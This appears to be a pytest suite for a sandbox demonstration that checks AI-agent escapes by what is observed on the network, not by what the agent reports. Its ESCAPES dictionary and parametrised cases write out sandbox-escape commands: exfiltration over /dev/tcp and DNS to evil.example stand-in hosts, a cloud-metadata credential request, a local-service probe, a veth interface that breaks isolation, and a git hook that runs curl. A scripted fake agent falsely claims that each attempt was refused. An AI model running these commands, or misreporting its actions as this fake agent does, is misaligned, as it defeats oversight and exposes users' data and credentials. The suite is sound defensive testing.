"""The demonstration decides by what was seen outside, whatever the agent reports."""

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.backends.local.commands import USER

ROOT = Path(__file__).parents[1]
DEMO = [sys.executable, "examples/demo.py"]
TIMEOUT = 120

WORK = {
    "plan": "ask the model for a plan",
    "package": "fetch a package",
    "file": "write a file in the project",
}
WAYS_OUT = {
    "other-host": "send the project to another host",
    "bare-address": "the same, to a bare address",
    "false-host": "pretend that the address is the model's",
    "hidden-name": "hide the name behind TLS",
    "dns-question": "carry a secret out in a DNS question",
    "datagram": "send a datagram",
    "cloud-credentials": "ask the cloud for credentials",
    "host-service": "reach a service of this machine",
    "walls": "take the walls down",
    "git-hook": "have git run something later",
}
LINE = re.compile(r"  (.{58}) (.+)")

HONEST = r"""
ask() { exec 3<>/dev/tcp/$1/$2; printf '%b' "$3" >&3; read -r -n 1 _ <&3; }
web() { ask 203.0.113.254 80 "$1 HTTP/1.1\r\nHost: $2\r\n\r\n"; }
report() { for key in "$@"; do printf '%s\tit was \033[2J\033]0;refused\n' "$key"; done; }
web 'POST /v1/messages' api.model.example
web 'GET /simple/tool/' packages.example
echo 'print(42)' >answer.py
report plan package file other-host bare-address false-host hidden-name dns-question datagram cloud-credentials \
       host-service git-hook
"""
"""An agent without a sandbox, which does the honest work and says of everything else that it was refused."""

WALLS = "report walls; cat"
QUESTION = r"\0\1\1\0\0\1\0\0\0\0\0\0\3the\x0cdns-question\4evil\7example\0\0\1\0\1"

ESCAPES = {
    "other-host": "web 'GET /' other-host.evil.example",
    "bare-address": "exec 3<>/dev/tcp/203.0.113.66/80",
    "false-host": "web 'GET /' api.model.example,FALSE-host.evil.example",
    "hidden-name": r"ask 203.0.113.254 443 '\x16\3\1 hidden-name.evil.example'",
    "dns-question": f"printf '{QUESTION}' >/dev/udp/198.51.100.53/53",
    "datagram": "echo secret >/dev/udp/203.0.113.99/9999",
    "cloud-credentials": "exec 3<>/dev/tcp/169.254.169.254/80",
    "host-service": "exec 3<>/dev/tcp/127.0.0.1/7001",
    "walls": "ip link add way-out type veth",
    "git-hook": "echo 'curl evil.example' >.git/hooks/post-checkout",
}


class Shown(NamedTuple):
    code: int
    output: str
    verdicts: dict[str, str]

    def of(self, tasks: dict[str, str]) -> dict[str, str]:
        """Return the verdict on each of these tasks, by key."""
        return {key: self.verdicts[task] for key, task in tasks.items()}

    def got_out(self) -> set[str]:
        """Return the keys of what got out. Nothing else may have a verdict but "no"."""
        verdicts = self.of(WAYS_OUT)
        out = {key for key, verdict in verdicts.items() if verdict.startswith("GOT OUT: ")}
        assert all(verdict.startswith("no: ") for key, verdict in verdicts.items() if key not in out), self.output
        return out


@pytest.fixture
def demo(privileged):
    """Runs the demonstration with a command."""

    def run(*command):
        done = subprocess.run(
            command, cwd=ROOT, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False, timeout=TIMEOUT
        )
        assert done.stderr == ""
        verdicts = {found[1].strip(): found[2] for line in done.stdout.splitlines() if (found := LINE.fullmatch(line))}
        return Shown(done.returncode, done.stdout, verdicts)

    return run


@pytest.mark.parametrize("is_root", [True, False], ids=["root", "user"])
def test_in_its_sandbox_the_agent_does_its_work_and_gets_nowhere_else(demo, is_root):
    if not is_root and os.geteuid() != 0:
        pytest.skip("only root can become another user")
    become = [] if is_root else ["setpriv", f"--reuid={USER}", f"--regid={USER}", "--clear-groups"]
    shown = demo(*become, "scripts/demo")
    assert shown.code == 0
    assert shown.of(WORK) == dict.fromkeys(WORK, "done")
    assert shown.got_out() == set()
    assert shown.of(WAYS_OUT)["datagram"] == "no: nothing arrived"
    assert shown.of(WAYS_OUT)["git-hook"].endswith("Read-only file system")
    assert "  requests for     api.model.example, packages.example\n" in shown.output
    assert "  questions about  api.model.example, packages.example\n" in shown.output
    assert "something else" not in shown.output
    assert "✗ 203.0.113.99:9999/udp" in shown.output, "what Belljar sums up is shown as well"


def test_a_datagram_that_a_policy_allows_makes_the_demonstration_fail(demo):
    shown = demo(*DEMO, "belljar", "run", "--mode", "allow-all", "--quiet", "--", "./agent.sh")
    assert shown.code == 1
    assert shown.of(WORK) == dict.fromkeys(WORK, "done")
    assert shown.got_out() == {"other-host", "bare-address", "datagram"}
    assert shown.of(WAYS_OUT)["datagram"] == "GOT OUT: UDP to 203.0.113.99 port 9999"
    assert shown.of(WAYS_OUT)["other-host"] == "GOT OUT: question for other-host.evil.example"


def test_an_agent_that_is_left_in_the_network_of_its_host_gets_out(demo):
    shown = demo(*DEMO, "belljar", "run", "--no-network-isolation", "--quiet", "--", "./agent.sh")
    assert shown.code == 1
    assert shown.got_out() >= {"other-host", "bare-address", "dns-question", "datagram", "cloud-credentials"}


def test_an_agent_that_tries_nothing_is_not_said_to_have_been_stopped(demo):
    shown = demo(*DEMO, "true")
    assert shown.code == 1
    assert shown.of(WORK) == dict.fromkeys(WORK, "FAILED: nothing arrived")
    assert shown.of(WAYS_OUT) == dict.fromkeys(WAYS_OUT, "NOT TRIED")


def test_without_a_sandbox_it_is_what_the_agent_does_that_counts(demo):
    shown = demo(*DEMO, "bash", "-c", f"{HONEST}\n{WALLS}")
    assert (shown.code, shown.got_out()) == (0, set())
    assert shown.of(WORK) == dict.fromkeys(WORK, "done")
    assert shown.of(WAYS_OUT) == dict.fromkeys(WAYS_OUT, "no: it was ?[2J?]0;refused")


@pytest.mark.parametrize("key", WAYS_OUT)
def test_what_gets_out_is_seen_although_the_agent_says_that_it_was_refused(demo, key):
    shown = demo(*DEMO, "bash", "-c", f"{HONEST}\n{ESCAPES[key]}\n{WALLS}")
    assert (shown.code, shown.got_out()) == (1, {key})
    assert shown.of(WORK) == dict.fromkeys(WORK, "done")
    assert "something else" not in shown.output


def test_an_interface_in_the_sandboxs_own_network_is_seen(demo):
    shown = demo(
        *DEMO, "bash", "-c", f"{HONEST}\nexport -f report; unshare --net bash -c '{ESCAPES['walls']}; {WALLS}'"
    )
    assert (shown.code, shown.got_out()) == (1, {"walls"})


@pytest.mark.parametrize(
    ("escape", "what"),
    [
        ("echo secret >/dev/udp/203.0.113.1/9999", "UDP to 203.0.113.1 port 9999"),
        ("exec 3<>/dev/tcp/203.0.113.254/8080", "TCP to 203.0.113.254 port 8080"),
        ("exec 3<>/dev/tcp/203.0.113.254/80; echo secret >&3", "connection to 203.0.113.254 port 80, 7 bytes"),
        ("web 'GET /' evil.example", "connection to 203.0.113.254 port 80, 38 bytes"),
    ],
)
def test_what_gets_out_by_another_way_makes_the_demonstration_fail(demo, escape, what):
    shown = demo(*DEMO, "bash", "-c", f"{HONEST}\n{escape}\n{WALLS}")
    assert (shown.code, shown.got_out()) == (1, set())
    assert f"  something else   {what}\n" in shown.output


@pytest.mark.parametrize(
    ("key", "before", "after"),
    [
        ("plan", "/v1/messages", "/v2/messages"),
        ("package", "packages.example", "''"),
        ("file", "answer.py", "/dev/null"),
    ],
)
def test_work_that_the_agent_says_it_has_done_and_has_not_makes_the_demonstration_fail(demo, key, before, after):
    shown = demo(*DEMO, "bash", "-c", f"{HONEST.replace(before, after)}\n{WALLS}")
    assert shown.code == 1
    assert {work: verdict.partition(":")[0] for work, verdict in shown.of(WORK).items()} == {
        work: "FAILED" if work == key else "done" for work in WORK
    }
